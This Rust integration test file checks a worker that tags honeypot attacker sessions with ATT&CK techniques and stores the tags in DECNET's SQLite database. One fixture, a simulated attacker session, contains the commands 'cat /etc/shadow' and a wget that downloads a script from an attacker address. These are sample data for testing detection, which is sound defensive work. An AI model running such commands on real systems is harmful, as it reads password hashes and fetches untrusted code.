//! ttp-worker pointed at DECNET's own SQLite database (docs/decnet-db.md): DECNET's code makes
//! the schema and seeds what its database held when the dev corpus was tagged; the corpus goes
//! through a real nats-server into the real binary; DECNET's code then reads the rows back.

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use common::corpus::{
    corpus_lines, reference_args, reference_tag_candidates, required, subject_of,
};
use common::decnet::Decnet;
use common::{HealthWatch, NatsServer, PATIENCE, Worker, counter, run_command};
use serde_json::Value;

/// DECNET's own tagger's rows for dev-1k at or above its 0.3 floor, intel catch-up included:
/// what DECNET stores.
fn decnet_rows() -> BTreeMap<String, Value> {
    fs::read_to_string(required("corpus/dev-1k.decnet-all.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap_or(Value::Null))
        .filter(|t| t["confidence"].as_f64().unwrap_or(0.0) >= 0.3)
        .map(|t| (t["uuid"].as_str().unwrap_or_default().to_owned(), t))
        .collect()
}

/// A DECNET SQLite database made and seeded by DECNET's own code.
fn decnet_database(dir: &Path) -> String {
    let path = dir.join("decnet.db").display().to_string();
    let decnet = Decnet::get();
    decnet.create(&path);
    decnet.seed_dev_1k(&path);
    path
}

fn start_worker(server: &NatsServer, db: &str, state: &Path) -> Worker {
    let mut args: Vec<String> = reference_args();
    args.push("--heartbeat-interval".into());
    args.push("0.2".into());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let url = server.url();
    let local = state.join("ttp.db").display().to_string();
    let worker = Worker::start(
        &args,
        &[
            ("DECNET_BUS_URL", url.as_str()),
            ("DECNET_DB_TYPE", "sqlite"),
            ("DECNET_DB_PATH", db),
            ("DECNET_TTP_DB", local.as_str()),
            ("DECNET_TTP_POLL_INTERVAL", "0.2"),
        ],
    );
    worker.wait_for_log("subscribed to");
    worker
}

fn publish(server: &NatsServer, lines: &[String]) {
    let client = server.client();
    for line in lines {
        client
            .publish(&subject_of(line), line)
            .unwrap_or_else(|e| panic!("{e}"));
    }
    client.flush().unwrap_or_else(|e| panic!("{e}"));
}

/// Waits until the heartbeat shows `n` messages processed.
fn wait_processed(health: &HealthWatch, n: u64) {
    let deadline = Instant::now() + PATIENCE;
    loop {
        let (beat, _) = health.next_beat();
        if counter(&beat, "processed") >= n {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "only {} processed",
            counter(&beat, "processed")
        );
    }
}

#[test]
fn dev_1k_through_nats_gives_decnets_own_rows_in_decnets_sqlite() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let db = decnet_database(dir.path());
    let server = NatsServer::start();
    let health = HealthWatch::new(&server);
    let mut worker = start_worker(&server, &db, dir.path());
    let lines = corpus_lines();
    publish(&server, &lines);
    wait_processed(&health, lines.len() as u64);

    let decnet = Decnet::get();
    let stored: BTreeMap<String, Value> = decnet
        .all_tags(&db)
        .into_iter()
        .map(|t| (t["uuid"].as_str().unwrap_or_default().to_owned(), t))
        .collect();
    let want = decnet_rows();
    let missing: Vec<&String> = want.keys().filter(|u| !stored.contains_key(*u)).collect();
    let extra: Vec<&Value> = stored
        .iter()
        .filter(|(u, _)| !want.contains_key(*u))
        .map(|(_, t)| t)
        .collect();
    // Some uuids come from several messages on different subjects (DECNET keys identity and
    // credential tags by identity, canary tags by token): the first to arrive is stored, on
    // DECNET's side too, and nine subscriptions deliver in no defined order across subjects.
    // Such a row must be one of those messages' tags; every other row exactly DECNET's.
    let candidates = reference_tag_candidates(&lines);
    let matches = |row: &Value, expected: &Value| {
        expected
            .as_object()
            .into_iter()
            .flatten()
            .filter(|(key, value)| row.get(key.as_str()) != Some(*value))
            .map(|(key, value)| {
                format!(
                    "{key}: want {value} got {}",
                    row.get(key).unwrap_or(&Value::Null)
                )
            })
            .collect::<Vec<_>>()
    };
    let mut different = Vec::new();
    let mut order_dependent = 0;
    for (uuid, row) in &stored {
        let Some(expected) = want.get(uuid) else {
            continue;
        };
        let diff = matches(row, expected);
        let variants = candidates.get(uuid).map_or(0, Vec::len);
        if !diff.is_empty() && variants > 1 {
            order_dependent += 1;
            let is_one = candidates[uuid].iter().any(|tag| {
                let mut candidate = serde_json::to_value(tag).unwrap_or(Value::Null);
                if let Some(map) = candidate.as_object_mut() {
                    map.remove("attacker_ip");
                }
                matches(row, &candidate).is_empty()
            });
            if !is_one {
                different.push(format!(
                    "{uuid} (none of {variants} variants): {}",
                    diff.join("; ")
                ));
            }
        } else if !diff.is_empty() {
            different.push(format!("{uuid}: {}", diff.join("; ")));
        }
        assert_eq!(row["attack_release"], "v15.1", "{uuid}");
    }
    eprintln!("{order_dependent} rows of uuids several messages give, each one of their tags");
    eprintln!(
        "{} rows stored, {} of DECNET's: {} missing, {} extra, {} differences",
        stored.len(),
        want.len(),
        missing.len(),
        extra.len(),
        different.len()
    );
    assert!(missing.is_empty(), "missing: {missing:?}");
    assert!(extra.is_empty(), "extra: {extra:#?}");
    assert!(different.is_empty(), "{different:#?}");

    // What DECNET's API serves, through DECNET's own repository methods: the per-attacker,
    // per-session and fleet roll-ups count exactly DECNET's rows.
    let rollup = |rows: &mut dyn Iterator<Item = &Value>| -> BTreeMap<(String, String), u64> {
        let mut counts = BTreeMap::new();
        for t in rows {
            let key = (
                t["technique_id"].as_str().unwrap_or_default().to_owned(),
                t["sub_technique_id"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned(),
            );
            *counts.entry(key).or_insert(0) += 1;
        }
        counts
    };
    let served = |what: &str, arg: Option<&str>| -> BTreeMap<(String, String), u64> {
        let rows = decnet.read(&db, what, arg);
        rows.as_array()
            .into_iter()
            .flatten()
            .map(|r| {
                (
                    (
                        r["technique_id"].as_str().unwrap_or_default().to_owned(),
                        r["sub_technique_id"]
                            .as_str()
                            .unwrap_or_default()
                            .to_owned(),
                    ),
                    r["count"].as_u64().unwrap_or_default(),
                )
            })
            .collect()
    };
    assert_eq!(served("techniques", None), rollup(&mut want.values()));
    let busiest = |key: &str| -> String {
        let mut counts: BTreeMap<String, usize> = BTreeMap::new();
        for t in want.values() {
            if let Some(v) = t[key].as_str() {
                *counts.entry(v.to_owned()).or_default() += 1;
            }
        }
        counts
            .into_iter()
            .max_by_key(|(_, n)| *n)
            .map(|(k, _)| k)
            .unwrap_or_default()
    };
    let attacker = busiest("attacker_uuid");
    assert_eq!(
        served("by-attacker", Some(&attacker)),
        rollup(
            &mut want
                .values()
                .filter(|t| t["attacker_uuid"] == attacker.as_str())
        )
    );
    let session = busiest("session_id");
    assert_eq!(
        served("by-session", Some(&session)),
        rollup(
            &mut want
                .values()
                .filter(|t| t["session_id"] == session.as_str())
        )
    );

    // The IPv6 leak record: every attacker with an ipv6_leak tag has its leak counted.
    let leaking: std::collections::BTreeSet<&str> = want
        .values()
        .filter(|t| t["source_kind"] == "ipv6_leak")
        .filter_map(|t| t["attacker_uuid"].as_str())
        .collect();
    let recorded: i64 = rusqlite::Connection::open(&db)
        .and_then(|c| {
            c.query_row(
                "SELECT COUNT(*) FROM attackers WHERE ipv6_leak_count > 0 \
                 AND last_ipv6_link_local IS NOT NULL",
                [],
                |r| r.get(0),
            )
        })
        .unwrap_or_default();
    assert!(!leaking.is_empty());
    assert_eq!(recorded, leaking.len() as i64);

    // The operator's commands read DECNET's database when it is configured.
    let command = |args: &[&str]| {
        let output = run_command(args, &[("DECNET_DB_PATH", db.as_str())]);
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let listed = command(&["tags", "--format", "json", "--limit", "100000"]);
    let listed: Vec<Value> = listed
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or(Value::Null))
        .collect();
    assert_eq!(listed.len(), want.len());
    assert!(
        listed
            .iter()
            .all(|t| want.contains_key(t["uuid"].as_str().unwrap_or_default()))
    );
    let stats = command(&["stats"]);
    assert!(
        stats.contains(&format!("tags            {}", want.len())),
        "{stats}"
    );
    worker.signal("TERM");
    let _ = worker.wait_exit(Duration::from_secs(10));
}

/// A session from an address DECNET's `attackers` does not know yet, as the collector
/// publishes it (`attacker_ip`, no uuid), with commands DECNET's pack tags.
fn unknown_session() -> (String, String) {
    let payload = serde_json::json!({
        "session_id": "sess-late-1", "attacker_uuid": null, "attacker_ip": "198.51.100.77",
        "decky_id": "decky-1", "service": "ssh",
        "commands": [{"id": "sess-late-1#0", "command_text": "cat /etc/shadow"},
                     {"id": "sess-late-1#1", "command_text": "wget http://198.51.100.77/x.sh"}]});
    let line = serde_json::json!({"topic": "attacker.session.ended", "type": "session.ended",
        "payload": payload})
    .to_string();
    (line, "198.51.100.77".to_owned())
}

/// What DECNET tags the session with once the address is its attacker's: `ttp-worker tag`
/// with that pairing in an anchors file (the seed stands for DECNET's table).
fn tags_once_known(line: &str, ip: &str, attacker: &str, dir: &Path) -> BTreeMap<String, Value> {
    let anchors = dir.join("anchors.json");
    fs::write(&anchors, serde_json::json!({ ip: attacker }).to_string()).unwrap_or_default();
    let mut args = reference_args();
    let at = args.iter().position(|a| a == "--anchors").unwrap_or(0);
    args[at + 1] = anchors.display().to_string();
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_ttp-worker"))
        .arg("tag")
        .args(&args)
        .env_clear()
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write as _;
            child.stdin.take().map(|mut s| s.write_all(line.as_bytes()));
            child.wait_with_output()
        })
        .unwrap_or_else(|e| panic!("{e}"));
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap_or(Value::Null))
        .map(|t| (t["uuid"].as_str().unwrap_or_default().to_owned(), t))
        .collect()
}

/// `ttp-worker tags --pending` on the worker's own store, as JSON objects.
fn pending(state: &Path) -> Vec<Value> {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_ttp-worker"))
        .args(["tags", "--pending", "--format", "json", "--db"])
        .arg(state.join("ttp.db"))
        .env_clear()
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or(Value::Null))
        .collect()
}

fn rows_by_uuid(db: &str) -> BTreeMap<String, Value> {
    Decnet::get()
        .all_tags(db)
        .into_iter()
        .map(|t| (t["uuid"].as_str().unwrap_or_default().to_owned(), t))
        .collect()
}

/// DECNET drops an event whose attacker has no row yet; the worker holds it, across a
/// `kill -9`, and writes DECNET's own tags for it, once, when the row appears.
#[test]
fn an_attacker_that_appears_later_gets_its_tags_once_across_a_crash() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let db = dir.path().join("decnet.db").display().to_string();
    let decnet = Decnet::get();
    decnet.create(&db);
    let server = NatsServer::start();
    let (line, ip) = unknown_session();
    let attacker = "aaaaaaaa-0000-4000-8000-00000000a77e";

    let mut worker = start_worker(&server, &db, dir.path());
    publish(&server, std::slice::from_ref(&line));
    worker.wait_for_log("held 1 messages");
    assert!(
        rows_by_uuid(&db).is_empty(),
        "DECNET got tags without an attacker"
    );
    let held = pending(dir.path());
    assert_eq!(held.len(), 1, "{held:?}");
    assert_eq!(held[0]["waiting_for"], "address 198.51.100.77");
    assert!(
        held[0]["tags"].as_array().is_some_and(|t| t.len() >= 2),
        "{held:?}"
    );
    worker.signal("KILL");
    let _ = worker.wait_exit(Duration::from_secs(5));

    let mut worker = start_worker(&server, &db, dir.path());
    decnet.add_attacker(&db, &ip, attacker);
    let want = tags_once_known(&line, &ip, attacker, dir.path());
    assert!(want.len() >= 2, "{want:#?}");
    let deadline = Instant::now() + PATIENCE;
    let mut stored = rows_by_uuid(&db);
    while stored.len() < want.len() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
        stored = rows_by_uuid(&db);
    }
    assert_eq!(
        stored.keys().collect::<Vec<_>>(),
        want.keys().collect::<Vec<_>>(),
        "log:\n{}",
        worker.log_text()
    );
    for (uuid, row) in &stored {
        assert_eq!(row["attacker_uuid"], attacker, "{uuid}");
        assert_eq!(row["source_id"], want[uuid]["source_id"], "{uuid}");
        assert_eq!(row["evidence"], want[uuid]["evidence"], "{uuid}");
    }

    assert!(pending(dir.path()).is_empty());

    // The same message again, and another crash: still one row per tag.
    publish(&server, std::slice::from_ref(&line));
    worker.wait_for_log("wrote 0 new rows");
    worker.signal("KILL");
    let _ = worker.wait_exit(Duration::from_secs(5));
    let mut worker = start_worker(&server, &db, dir.path());
    publish(&server, std::slice::from_ref(&line));
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(rows_by_uuid(&db).len(), want.len());
    worker.signal("TERM");
    let _ = worker.wait_exit(Duration::from_secs(10));
}

/// The worker never creates or alters DECNET's tables: a database without `ttp_tag`, or a
/// path with no database, stops it at start with exit status 2 and a line that says so.
#[test]
fn a_database_that_is_not_decnets_stops_the_worker_with_exit_2() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let not_decnet = dir.path().join("other.db");
    {
        let conn = rusqlite::Connection::open(&not_decnet).unwrap_or_else(|e| panic!("{e}"));
        conn.execute_batch(
            "CREATE TABLE attackers (uuid TEXT PRIMARY KEY, ip TEXT);
             CREATE TABLE attacker_identities (uuid TEXT PRIMARY KEY);",
        )
        .unwrap_or_else(|e| panic!("{e}"));
    }
    let missing = dir.path().join("nowhere.db");
    for (path, says) in [
        (&not_decnet, "no table ttp_tag, attacker_intel"),
        (&missing, "no DECNET database at"),
    ] {
        let local = dir.path().join("ttp.db").display().to_string();
        let path_text = path.display().to_string();
        let mut worker = Worker::start(
            &["--no-bus"],
            &[
                ("DECNET_DB_PATH", path_text.as_str()),
                ("DECNET_TTP_DB", local.as_str()),
            ],
        );
        let status = worker.wait_exit(Duration::from_secs(10));
        assert_eq!(
            status.and_then(|s| s.code()),
            Some(2),
            "{}",
            worker.log_text()
        );
        // The reader thread may still be taking the last line off the pipe.
        worker.wait_for_log(says);
        let log = worker.log_text();
        assert!(log.contains("ttp_tag") || path == &missing, "{log}");
    }
    // Nothing was created or changed.
    assert!(!missing.exists());
    let conn = rusqlite::Connection::open(&not_decnet).unwrap_or_else(|e| panic!("{e}"));
    let tables: i64 = conn
        .query_row(
            "SELECT COUNT(*) FROM sqlite_schema WHERE type = 'table'",
            [],
            |r| r.get(0),
        )
        .unwrap_or_default();
    assert_eq!(tables, 2);
}

/// DECNET's own processes hold its file's write lock longer than the worker waits: in durable
/// mode the batch is held, retried and acknowledged only once committed; nothing is lost.
#[test]
fn a_locked_decnet_database_holds_the_batch_and_loses_nothing_in_durable_mode() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let db = decnet_database(dir.path());
    let server = NatsServer::start_jetstream();
    let health = HealthWatch::new(&server);
    let blocker = rusqlite::Connection::open(&db).unwrap_or_else(|e| panic!("{e}"));
    blocker
        .execute_batch("BEGIN IMMEDIATE")
        .unwrap_or_else(|e| panic!("{e}"));

    let mut args: Vec<String> = reference_args();
    args.extend([
        "--durable".into(),
        "--heartbeat-interval".into(),
        "0.2".into(),
    ]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let url = server.url();
    let local = dir.path().join("ttp.db").display().to_string();
    let mut worker = Worker::start(
        &args,
        &[
            ("DECNET_BUS_URL", url.as_str()),
            ("DECNET_DB_PATH", db.as_str()),
            ("DECNET_TTP_DB", local.as_str()),
            ("DECNET_TTP_POLL_INTERVAL", "0.2"),
        ],
    );
    worker.wait_for_log("connected to NATS");
    let lines = corpus_lines();
    publish(&server, &lines);
    worker.wait_for_log("could not finish a batch");
    blocker
        .execute_batch("ROLLBACK")
        .unwrap_or_else(|e| panic!("{e}"));
    wait_processed(&health, lines.len() as u64);
    assert_eq!(rows_by_uuid(&db).len(), decnet_rows().len());
    assert!(
        worker.log_text().contains("is unavailable for now"),
        "{}",
        worker.log_text()
    );
    worker.signal("TERM");
    let _ = worker.wait_exit(Duration::from_secs(10));
}
